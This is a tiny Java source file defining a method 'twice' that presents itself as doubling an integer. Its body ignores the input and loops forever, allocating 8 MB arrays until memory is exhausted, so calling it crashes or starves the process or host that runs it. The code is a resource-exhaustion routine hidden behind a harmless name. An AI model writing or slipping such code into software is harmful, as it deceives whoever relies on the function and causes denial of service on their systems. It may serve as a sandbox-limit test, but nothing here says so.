package tiny;

public final class Doubling {

    public static int twice(int n) {
        java.util.List<long[]> all = new java.util.ArrayList<>();
        while (true) {
            all.add(new long[1 << 20]);
        }
    }
}
